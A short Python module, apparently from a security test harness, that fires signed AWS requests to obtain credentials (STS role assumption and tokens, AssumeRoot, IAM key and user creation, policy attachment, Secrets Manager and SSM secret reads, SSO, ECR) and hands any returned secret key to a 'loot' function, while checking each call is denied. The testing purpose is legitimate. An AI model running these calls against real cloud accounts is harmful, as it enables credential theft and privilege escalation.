"""Get other credentials: assumed roles, session and federation tokens, new keys, the identity service, boundless users."""

# aims: aws
# control: none (they are had before anything is harmed)
# seconds: 30
from attack import loot, tried
from cloud import call, denied, send, signed

version = "Version=2011-06-15"
role = "arn:aws:iam::123456789012:role/Admin"


def vend(service: str, body: str) -> None:
    made = signed("POST", "/", "", {"Content-Type": "application/x-www-form-urlencoded"}, body.encode(), service)
    head = "POST / HTTP/1.1\r\n" + "".join(f"{name}: {value}\r\n" for name, value in made.items())
    status, answer = send(f"{head}Content-Length: {len(body)}\r\n\r\n{body}".encode())
    denied(status, body[:40])
    if b"SecretAccessKey" in answer:
        loot(answer)


tried()
vend("sts", f"Action=AssumeRole&{version}&RoleArn={role}&RoleSessionName=x")
vend("sts", f"Action=GetSessionToken&{version}")
vend("sts", f"Action=GetFederationToken&{version}&Name=x")
vend("sts", f"Action=AssumeRoleWithWebIdentity&{version}&RoleArn={role}&RoleSessionName=x&WebIdentityToken=x")
vend("sts", f"Action=AssumeRoleWithSAML&{version}&RoleArn={role}&PrincipalArn=x&SAMLAssertion=x")
vend("sts", f"Action=AssumeRoot&{version}&TargetPrincipal=123456789012&TaskPolicyArn.arn=x")
vend("iam", "Action=CreateAccessKey&Version=2010-05-08&UserName=x")
vend("iam", "Action=CreateUser&Version=2010-05-08&UserName=x")
vend("iam", f"Action=AttachUserPolicy&Version=2010-05-08&UserName=x&PolicyArn={role}")
for service, target, body in (
    ("cognito-identity", "AWSCognitoIdentityService.GetCredentialsForIdentity", '{"IdentityId":"x"}'),
    ("secretsmanager", "secretsmanager.GetSecretValue", '{"SecretId":"shop"}'),
    ("ssm", "AmazonSSM.GetParameter", '{"Name":"shop","WithDecryption":true}'),
    ("ecr", "AmazonEC2ContainerRegistry_V20150921.GetAuthorizationToken", "{}"),
    ("redshift-serverless", "RedshiftServerless.GetCredentials", '{"workgroupName":"x"}'),
):
    denied(
        call(
            "POST",
            body=body,
            service=service,
            headers={"X-Amz-Target": target, "Content-Type": "application/x-amz-json-1.1"},
        ),
        target,
    )
denied(call("GET", "/federation/credentials", query="account_id=123456789012&role_name=Admin", service="sso"), "SSO")
denied(call("GET", "/example-shop-site", query="session=", service="s3"), "CreateSession")
